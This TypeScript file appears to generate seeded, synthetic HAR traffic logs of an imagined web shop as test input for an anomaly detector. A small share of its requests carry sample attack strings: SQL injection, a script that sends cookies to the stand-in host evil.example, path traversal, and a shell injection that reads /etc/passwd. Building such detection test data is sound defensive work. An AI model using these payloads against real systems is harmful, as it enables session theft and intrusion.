import { once } from "node:events";
import { createWriteStream } from "node:fs";
import { createRandom, type Random } from "../engine/detect/anomaly/random.ts";

const words =
  "account order basket shipping invoice return product review price colour size stock voucher customer address payment delivery catalogue search result summer winter leather cotton garden kitchen office light table chair lamp".split(
    " ",
  );
const agents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
];
const attacks = [
  "1' OR '1'='1' -- ",
  "<script>document.location='//evil.example/'+document.cookie</script>",
  "../../../../etc/passwd",
  "127.0.0.1; cat /etc/passwd",
  "1 UNION SELECT username, password FROM users",
];

const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random.next() * from.length)]!;
const phrase = (random: Random, count: number) => Array.from({ length: count }, () => pick(random, words)).join(" ");
const hex = (random: Random, digits: number) =>
  Array.from({ length: digits }, () => Math.floor(random.next() * 16).toString(16)).join("");

function entry(random: Random, session: { cookie: string; agent: string }, startedAt: number, size: number): string {
  const attack = random.next() < 0.002 ? pick(random, attacks) : null;
  const query = [
    { name: "q", value: attack ?? phrase(random, 2) },
    { name: "page", value: String(Math.floor(random.next() * 40)) },
    { name: "sort", value: pick(random, ["price", "name", "newest"]) },
  ];
  const search = query.map(({ name, value }) => `${name}=${encodeURIComponent(value)}`).join("&");
  const url = `https://shop.example/${pick(random, words)}/${Math.floor(random.next() * 5000)}?${search}`;
  const form =
    random.next() < 0.2
      ? `comment=${encodeURIComponent(phrase(random, 12))}&rating=${1 + Math.floor(random.next() * 5)}`
      : null;
  const head = {
    startedDateTime: new Date(startedAt).toISOString(),
    time: 5 + Math.floor(random.next() * 200),
    request: {
      method: form === null ? "GET" : "POST",
      url,
      httpVersion: "HTTP/2.0",
      headers: [
        { name: "Host", value: "shop.example" },
        { name: "User-Agent", value: session.agent },
        { name: "Accept", value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" },
        { name: "Accept-Language", value: "en-GB,en;q=0.7" },
        { name: "Referer", value: `https://shop.example/${pick(random, words)}` },
        { name: "Cookie", value: `session=${session.cookie}; theme=light; basket=${hex(random, 8)}` },
        ...(form === null ? [] : [{ name: "Content-Type", value: "application/x-www-form-urlencoded" }]),
      ],
      queryString: query,
      cookies: [],
      headersSize: -1,
      bodySize: form?.length ?? 0,
      ...(form === null ? {} : { postData: { mimeType: "application/x-www-form-urlencoded", text: form } }),
    },
  };
  const response = {
    status: random.next() < 0.97 ? 200 : 404,
    statusText: "",
    httpVersion: "HTTP/2.0",
    headers: [{ name: "Content-Type", value: "text/html; charset=utf-8" }],
    cookies: [],
    content: { size: 0, mimeType: "text/html", text: "" },
    redirectURL: "",
    headersSize: -1,
    bodySize: -1,
  };
  const shell = JSON.stringify({ ...head, response, cache: {}, timings: { send: 0, wait: 5, receive: 1 } }).length;
  let body = `<!doctype html><title>${phrase(random, 3)}</title>`;
  while (body.length < size - shell) body += `<p class="item">${phrase(random, 14)}</p>`;
  response.content.size = body.length;
  response.content.text = body;
  return JSON.stringify({ ...head, response, cache: {}, timings: { send: 0, wait: 5, receive: 1 } });
}

/**
 * Writes a HAR 1.2 file of shop traffic: sessions of about 100 requests each, 0.2 % of the requests with an attack in the query.
 * The same seed gives the same bytes.
 *
 * @param entryBytes average size of an entry; 40,000 entries of 5,000 bytes are 200 MB
 */
export async function generateHar(path: string, entries: number, entryBytes: number, seed: number): Promise<void> {
  const random = createRandom(seed);
  const out = createWriteStream(path);
  out.write('{"log":{"version":"1.2","creator":{"name":"generator","version":"1"},"pages":[],"entries":[');
  let clock = Date.UTC(2026, 0, 5, 8);
  let session = { cookie: hex(random, 32), agent: pick(random, agents) };
  for (let i = 0; i < entries; i++) {
    if (i % 100 === 0) session = { cookie: hex(random, 32), agent: pick(random, agents) };
    clock += 200 + Math.floor(random.next() * 4000);
    const text = (i === 0 ? "\n" : ",\n") + entry(random, session, clock, entryBytes);
    if (!out.write(text)) await once(out, "drain");
  }
  out.end("\n]}}\n");
  await once(out, "finish");
}
